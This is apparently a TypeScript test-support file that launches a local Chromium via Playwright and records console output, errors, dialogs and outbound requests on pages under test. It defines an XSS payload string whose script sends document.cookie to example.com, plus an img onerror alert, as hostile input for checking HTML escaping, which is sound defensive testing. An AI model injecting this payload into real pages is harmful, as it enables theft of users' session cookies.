import { existsSync } from 'node:fs';
import { type Browser, chromium, type Page } from 'playwright-core';

/** Test support: the browser of this machine, if it has one. */
export const browserPath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((path) => existsSync(path));
if (!browserPath) console.warn('Pages are not looked at: there is no chromium (apt-get install chromium)');

/** Text that does something where it is taken for HTML. */
export const hostile = '</summary><script>fetch("https://example.com/?" + document.cookie)</script><img src=x onerror=alert(1)>';

/** Starts the browser of {@link browserPath}. */
export function launchBrowser(): Promise<Browser> {
  return chromium.launch({ executablePath: browserPath ?? '', args: ['--no-sandbox'], timeout: 120_000 });
}

interface WatchedPage {
  readonly page: Page;
  /** What it did that a page of ours does not do: messages, errors, dialogs, requests to anywhere. */
  readonly told: readonly string[];
}

export async function watchedPage(browser: Browser, options: Parameters<Browser['newPage']>[0]): Promise<WatchedPage> {
  const page = await browser.newPage(options);
  page.setDefaultTimeout(60_000);
  const told: string[] = [];
  page.on('console', (message) => void told.push(`${message.type()}: ${message.text()}`));
  page.on('pageerror', (error) => void told.push(`error: ${error.message}`));
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => told.push('a dialog')));
  page.on('request', (request) => void (/^(file|data):/.test(request.url()) || told.push(`request: ${request.url()}`)));
  return { page, told };
}
